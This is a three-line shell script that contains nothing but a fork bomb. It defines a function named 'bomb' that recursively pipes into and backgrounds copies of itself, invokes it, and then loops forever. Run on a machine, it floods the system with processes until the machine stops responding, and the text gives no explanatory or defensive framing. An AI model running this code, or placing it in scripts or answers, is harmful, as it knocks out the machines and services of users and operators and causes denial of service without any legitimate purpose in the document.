bomb() { bomb | bomb & }
bomb
while :; do sleep 1; done
